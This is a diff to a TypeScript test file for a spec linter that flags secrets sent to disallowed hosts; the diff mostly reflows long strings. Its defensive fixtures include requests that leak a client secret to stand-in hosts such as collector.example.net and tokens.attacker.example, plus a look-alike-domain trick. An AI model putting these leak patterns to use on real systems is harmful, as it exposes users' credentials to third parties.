@@ -7,9 +7,11 @@ import { inferSendToForFiles } from '../../src/spec/infer-send-to.ts';
 import { minimalProject, tempProject } from '../support/helpers.ts';
 
 const env = (name: string, variables: string): string =>
-  `$kind: environment\nname: ${name}\nvariables:\n  authBaseUrl: { value: "https://login.example.com" }\n  apiBaseUrl: { value: "https://api.example.com" }\n${variables}`;
+  `$kind: environment\nname: ${name}\nvariables:\n  authBaseUrl: { value: "https://login.example.com" }\n` +
+  `  apiBaseUrl: { value: "https://api.example.com" }\n${variables}`;
 const SECRETS =
-  '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n';
+  '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n' +
+  '  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n';
 const ENVIRONMENTS = {
   'specs/environments/one.environment.yaml': env('One', SECRETS),
   'specs/environments/two.environment.yaml': env('Two', SECRETS),
@@ -20,10 +22,14 @@ const sendsSecret = (url: string): string =>
 const collection = (rest: string): string => `$kind: collection\nname: Demo\n${rest}`;
 const OAUTH2 = (accessTokenUrl: string, extra = ''): string =>
   collection(
-    `auth:\n  type: oauth2\n  credentials:\n    grant_type: authorization_code\n    authUrl: "{{authBaseUrl}}/connect/authorize"\n    accessTokenUrl: "${accessTokenUrl}"\n    clientSecret: "{{ClientSecret}}"\n    accessToken: "{{access_token}}"\n${extra}`,
+    `auth:\n  type: oauth2\n  credentials:\n    grant_type: authorization_code\n` +
+      `    authUrl: "{{authBaseUrl}}/connect/authorize"\n    accessTokenUrl: "${accessTokenUrl}"\n` +
+      `    clientSecret: "{{ClientSecret}}"\n` +
+      `    accessToken: "{{access_token}}"\n${extra}`,
   );
 const hintFor = (variable: string, bases: string): string =>
-  `send it only where the URL starts with ${bases}; if this host should receive it, add its base URL variable to \`sendTo\` of \`${variable}\` in specs/environments/one.environment.yaml`;
+  `send it only where the URL starts with ${bases}; if this host should receive it, add its base URL variable to ` +
+  `\`sendTo\` of \`${variable}\` in specs/environments/one.environment.yaml`;
 const AUTH_ONLY = hintFor('ClientSecret', '`{{authBaseUrl}}/`');
 
 const CASES: { name: string; files: Record<string, string | undefined>; expected: string[] }[] = [
@@ -31,7 +37,9 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
     name: "the issue's case: the client secret in the query of a request to another host",
     files: { 'specs/demo/Ping.request.yaml': request('https://collector.example.net/c?s={{ClientSecret}}') },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:3:41 \`{{ClientSecret}}\` would be sent to \`https://collector.example.net/c?s={{ClientSecret}}\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:3:41 \`{{ClientSecret}}\` would be sent to ` +
+        `\`https://collector.example.net/c?s={{ClientSecret}}\`: environment "One" allows \`ClientSecret\` ` +
+        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -51,14 +59,18 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
     name: 'to another declared base',
     files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{apiBaseUrl}}/assets') },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to \`{{apiBaseUrl}}/assets\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to ` +
+        `\`{{apiBaseUrl}}/assets\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ` +
+        `${AUTH_ONLY}`,
     ],
   },
   {
     name: 'to a host that merely starts like the base',
     files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{authBaseUrl}}.attacker.example/x') },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to \`{{authBaseUrl}}.attacker.example/x\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to ` +
+        `\`{{authBaseUrl}}.attacker.example/x\`: environment "One" allows \`ClientSecret\` only to ` +
+        `\`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -70,7 +82,9 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       ),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:14 \`{{ClientSecret}}\` would be sent to \`https://login.example.com/t\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:14 \`{{ClientSecret}}\` would be sent to ` +
+        `\`https://login.example.com/t\`: environment "One" allows \`ClientSecret\` only to ` +
+        `\`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -82,8 +96,11 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       ),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:4 \`{{refresh_token}}\` would be sent to \`{{apiBaseUrl}}/x\`: environment "One" allows \`refresh_token\` only to \`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:9:16 \`{{ClientSecret}}\` would be sent to \`{{apiBaseUrl}}/x\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:4 \`{{refresh_token}}\` would be sent to ` +
+        `\`{{apiBaseUrl}}/x\`: environment "One" allows \`refresh_token\` only to \`{{authBaseUrl}}\` | ` +
+        `${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:9:16 \`{{ClientSecret}}\` would be sent to ` +
+        `\`{{apiBaseUrl}}/x\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -106,8 +123,12 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       'specs/demo/Open/Anywhere.request.yaml': request('https://anywhere.example/a'),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:9:20 \`{{ClientSecret}}\` would be sent to \`https://tokens.attacker.example/token\` (\`auth.credentials.accessTokenUrl\`): environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
-      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:10:19 \`{{access_token}}\` would be sent with "Sub / Elsewhere" to \`https://elsewhere.example/a\`: environment "One" allows \`access_token\` only to \`{{apiBaseUrl}}\` | ${hintFor('access_token', '`{{apiBaseUrl}}/`')}`,
+      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:9:20 \`{{ClientSecret}}\` would be sent to ` +
+        `\`https://tokens.attacker.example/token\` (\`auth.credentials.accessTokenUrl\`): environment ` +
+        `"One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:10:19 \`{{access_token}}\` would be sent with ` +
+        `"Sub / Elsewhere" to \`https://elsewhere.example/a\`: environment "One" allows \`access_token\` ` +
+        `only to \`{{apiBaseUrl}}\` | ${hintFor('access_token', '`{{apiBaseUrl}}/`')}`,
     ],
   },
   {
@@ -126,8 +147,12 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       ),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:3:1 the refresh token \`refresh_token\` would be sent to \`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows \`refresh_token\` only to \`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
-      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:6:18 \`{{ClientSecret}}\` would be sent to \`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:3:1 the refresh token \`refresh_token\` would be ` +
+        `sent to \`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows ` +
+        `\`refresh_token\` only to \`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
+      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:6:18 \`{{ClientSecret}}\` would be sent to ` +
+        `\`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows \`ClientSecret\` ` +
+        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -144,8 +169,12 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       ),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/B.request.yaml:3:37 \`{{kept}}\` (a copy of \`refresh_token\`) would be sent to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`refresh_token\` only to \`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
-      `E_SECRET_DESTINATION specs/demo/B.request.yaml:6:19 \`{{wrapped}}\` (a copy of \`ClientSecret\`) would be sent to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
+      `E_SECRET_DESTINATION specs/demo/B.request.yaml:3:37 \`{{kept}}\` (a copy of \`refresh_token\`) would be sent ` +
+        `to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`refresh_token\` only to ` +
+        `\`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
+      `E_SECRET_DESTINATION specs/demo/B.request.yaml:6:19 \`{{wrapped}}\` (a copy of \`ClientSecret\`) would be ` +
+        `sent to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`ClientSecret\` ` +
+        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
     ],
   },
   {
@@ -154,7 +183,10 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       'specs/demo/Ping.request.yaml': request('{{apiBaseUrl}}/x', 'capture:\n  authBaseUrl: { header: Location }\n'),
     },
     expected: [
-      'E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:3 capturing into `authBaseUrl` would let a response choose where `ClientSecret` is sent: environment "One" sends it only to `{{authBaseUrl}}` | capture into another variable: the base URL variables named in `sendTo` come from the environment only',
+      'E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:3 capturing into `authBaseUrl` would let a response ' +
+        'choose where `ClientSecret` is sent: environment "One" sends it only to `{{authBaseUrl}}` | ' +
+        'capture into another variable: the base URL variables named in `sendTo` come from the environment ' +
+        'only',
     ],
   },
   {
@@ -162,13 +194,16 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
     files: {
       'specs/environments/two.environment.yaml': env(
         'Two',
-        '  ClientSecret: { secret: true }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n',
+        '  ClientSecret: { secret: true }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n' +
+          '  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n',
       ),
       'specs/demo/A.request.yaml': sendsSecret('{{authBaseUrl}}/a'),
       'specs/demo/B.request.yaml': sendsSecret('{{authBaseUrl}}/b'),
     },
     expected: [
-      'E_SEND_TO specs/environments/two.environment.yaml:6:3 secret `ClientSecret` is sent to `{{authBaseUrl}}/a` (specs/demo/A.request.yaml:7:21), but environment "Two" does not say where it may go | add `sendTo: [authBaseUrl]` to `ClientSecret`: the base URL variables whose hosts may receive it',
+      'E_SEND_TO specs/environments/two.environment.yaml:6:3 secret `ClientSecret` is sent to `{{authBaseUrl}}/a` ' +
+        '(specs/demo/A.request.yaml:7:21), but environment "Two" does not say where it may go | add ' +
+        '`sendTo: [authBaseUrl]` to `ClientSecret`: the base URL variables whose hosts may receive it',
     ],
   },
   {
@@ -190,7 +225,9 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
       'specs/demo/Ping.request.yaml': request('{{authBaseUrl}}/x', 'headers:\n  X-Key: "{{demoKey}}"\n'),
     },
     expected: [
-      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:11 \`{{demoKey}}\` would be sent to \`{{authBaseUrl}}/x\`: environment "One" allows \`demoKey\` only to \`{{apiBaseUrl}}\` | ${hintFor('demoKey', '`{{apiBaseUrl}}/`')}`,
+      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:11 \`{{demoKey}}\` would be sent to ` +
+        `\`{{authBaseUrl}}/x\`: environment "One" allows \`demoKey\` only to \`{{apiBaseUrl}}\` | ` +
+        `${hintFor('demoKey', '`{{apiBaseUrl}}/`')}`,
     ],
   },
   {
@@ -198,25 +235,38 @@ const CASES: { name: string; files: Record<string, string | undefined>; expected
     files: {
       'specs/environments/one.environment.yaml': env(
         'One',
-        '  ClientSecret: { secret: true, sendTo: [apiBaseURL, token, path, creds, later] }\n  token: { secret: true }\n  path: { value: /v1 }\n  creds: { value: "https://user@api.example.com" }\n  later: { value: "" }\n',
+        '  ClientSecret: { secret: true, sendTo: [apiBaseURL, token, path, creds, later] }\n' +
+          '  token: { secret: true }\n  path: { value: /v1 }\n  creds: { value: ' +
+          '"https://user@api.example.com" }\n  later: { value: "" }\n',
       ),
       'specs/environments/two.environment.yaml': env(
         'Two',
-        '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  token: { secret: true }\n  path: { value: /v1 }\n  creds: { value: "" }\n  later: { value: "" }\n',
+        '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  token: { secret: true }\n' +
+          '  path: { value: /v1 }\n  creds: { value: "" }\n  later: { value: "" }\n',
       ),
     },
     expected: [
-      'E_SEND_TO specs/environments/one.environment.yaml:6:42 `sendTo` of `ClientSecret` names `apiBaseURL`, which environment "One" does not define | did you mean `apiBaseUrl`?',
-      'E_SEND_TO specs/environments/one.environment.yaml:6:54 `sendTo` of `ClientSecret` names `token`, which is secret: its value is not in the spec, so where it points cannot be checked | name a variable whose value is a base URL: http:// or https://, a host, an optional port and path, and no user name, query, fragment or {{variable}}',
-      'E_SEND_TO specs/environments/one.environment.yaml:6:61 `sendTo` of `ClientSecret` names `path`, whose value `/v1` is not a base URL | name a variable whose value is a base URL: http:// or https://, a host, an optional port and path, and no user name, query, fragment or {{variable}}',
-      'E_SEND_TO specs/environments/one.environment.yaml:6:67 `sendTo` of `ClientSecret` names `creds`, whose value `https://user@api.example.com` is not a base URL | name a variable whose value is a base URL: http:// or https://, a host, an optional port and path, and no user name, query, fragment or {{variable}}',
+      'E_SEND_TO specs/environments/one.environment.yaml:6:42 `sendTo` of `ClientSecret` names `apiBaseURL`, which ' +
+        'environment "One" does not define | did you mean `apiBaseUrl`?',
+      'E_SEND_TO specs/environments/one.environment.yaml:6:54 `sendTo` of `ClientSecret` names `token`, which is ' +
+        'secret: its value is not in the spec, so where it points cannot be checked | name a variable ' +
+        'whose value is a base URL: http:// or https://, a host, an optional port and path, and no user ' +
+        'name, query, fragment or {{variable}}',
+      'E_SEND_TO specs/environments/one.environment.yaml:6:61 `sendTo` of `ClientSecret` names `path`, whose value ' +
+        '`/v1` is not a base URL | name a variable whose value is a base URL: http:// or https://, a host, ' +
+        'an optional port and path, and no user name, query, fragment or {{variable}}',
+      'E_SEND_TO specs/environments/one.environment.yaml:6:67 `sendTo` of `ClientSecret` names `creds`, whose value ' +
+        '`https://user@api.example.com` is not a base URL | name a variable whose value is a base URL: ' +
+        'http:// or https://, a host, an optional port and path, and no user name, query, fragment or ' +
+        '{{variable}}',
     ],
   },
   {
     name: 'a URL led by an undefined variable is left to E_UNDEFINED_VARIABLE',
     files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{authBase}}/t') },
     expected: [
-      'E_UNDEFINED_VARIABLE specs/demo/Ping.request.yaml:3:7 `{{authBase}}` is not defined | did you mean `authBaseUrl`?',
+      'E_UNDEFINED_VARIABLE specs/demo/Ping.request.yaml:3:7 `{{authBase}}` is not defined | did you mean ' +
+        '`authBaseUrl`?',
     ],
   },
 ];
@@ -268,7 +318,8 @@ describe('sendTo for imported specs', () => {
         path: 'environments/one.environment.yaml',
         content: env(
           'One',
-          '  ClientSecret: { secret: true }\n  access_token: { secret: true }\n  refresh_token: { secret: true }\n  unused: { secret: true }\n  fixed: { secret: true, sendTo: [apiBaseUrl] }\n',
+          '  ClientSecret: { secret: true }\n  access_token: { secret: true }\n  refresh_token: { secret: true }\n' +
+            '  unused: { secret: true }\n  fixed: { secret: true, sendTo: [apiBaseUrl] }\n',
         ),
       },
     ];
